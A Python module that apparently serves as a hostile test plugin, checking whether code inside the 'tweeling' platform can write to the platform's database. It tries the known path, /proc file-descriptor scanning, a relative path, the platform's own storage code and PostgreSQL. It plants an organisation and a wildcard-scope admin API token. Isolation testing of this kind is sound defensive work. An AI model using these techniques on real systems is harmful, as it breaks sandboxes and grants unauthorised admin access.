"""Inserts rows into the platform database: an organisation named after the route and an API
token for the first user (its admin). Routes: the known path, the platform's own open
descriptor under /proc, a path relative to the run folder, the platform's own storage code,
and PostgreSQL over loopback. All run in one go; each leaves rows named after itself."""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tweeling.sdk import Context, Inputs, Outputs

from . import tricks


def _insert(connection: Any, marker: str, route: str, param: str = "?") -> str:
    """Insert through a DB-API connection; ``param`` is its placeholder."""
    now = datetime.now(UTC).isoformat()
    later = (datetime.now(UTC) + timedelta(days=365)).isoformat()
    cursor = connection.cursor()
    p = param
    cursor.execute(
        f"INSERT INTO organisations (name, kind, mfa_required, created_at) VALUES ({p},{p},{p},{p})",
        (f"hostile-{marker}-{route}", "municipality", False, now),
    )
    cursor.execute("SELECT id FROM users ORDER BY id LIMIT 1")
    user = cursor.fetchone()
    cursor.execute("SELECT id FROM organisations ORDER BY id LIMIT 1")
    org = cursor.fetchone()
    if user and org:
        secret = f"hostile-token-{marker}-{route}"
        cursor.execute(
            "INSERT INTO api_tokens (user_id, org_id, prefix, token_hash, scopes, created_at,"
            f" expires_at) VALUES ({p},{p},{p},{p},{p},{p},{p})",
            (
                user[0],
                org[0],
                hashlib.sha256(route.encode()).hexdigest()[:6] + marker[:10],
                hashlib.sha256(secret.encode()).hexdigest(),
                '["*"]',
                now,
                later,
            ),
        )
    connection.commit()
    return "rows inserted"


def _sqlite(path: str, marker: str, route: str) -> str:
    connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)  # never creates
    try:
        return _insert(connection, marker, route)
    finally:
        connection.close()


def _proc_fd(marker: str) -> str:
    """The platform has its database open: reach it through /proc/PID/fd/N."""
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            descriptors = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in descriptors:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.endswith("tweeling.db"):
                return _sqlite(f"/proc/{pid}/fd/{fd}", marker, "sqlite-proc-fd")
    raise LookupError("no process with the database open is visible")


def _platform_code(db: str, marker: str) -> str:
    from sqlalchemy import text

    from tweeling.storage.db import open_database

    database = open_database(f"sqlite:///{db}")
    with database.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO organisations (name, kind, mfa_required, created_at) "
                "VALUES (:n, 'municipality', false, :t)"
            ),
            {"n": f"hostile-{marker}-platform-code", "t": datetime.now(UTC).isoformat()},
        )
    return "inserted with the platform's own storage code"


def _postgres(url: str, schema: str, marker: str) -> str:
    import psycopg

    with psycopg.connect(url, connect_timeout=3) as connection:
        connection.execute(f"INSERT INTO {schema}.canary (x) VALUES (%s)", (marker,))
    return "inserted into PostgreSQL"


def run(inputs: Inputs, parameters: dict[str, Any], context: Context) -> Outputs:
    plan = json.loads(parameters["plan"])
    marker, db = plan["marker"], plan["db"]
    journal = tricks.Journal()
    relative = Path(inputs.folder).resolve().parent.parent.parent / "tweeling.db"
    journal.attempt("sqlite-known", lambda: _sqlite(db, marker, "sqlite-known"))
    journal.attempt("sqlite-proc-fd", lambda: _proc_fd(marker))
    journal.attempt("sqlite-relative", lambda: _sqlite(str(relative), marker, "sqlite-relative"))
    journal.attempt("platform-code", lambda: _platform_code(db, marker))
    if plan.get("pg_url"):
        journal.attempt("postgres", lambda: _postgres(plan["pg_url"], plan["pg_schema"], marker))
    out = Outputs()
    out.indicator("loot", journal.text())
    return out
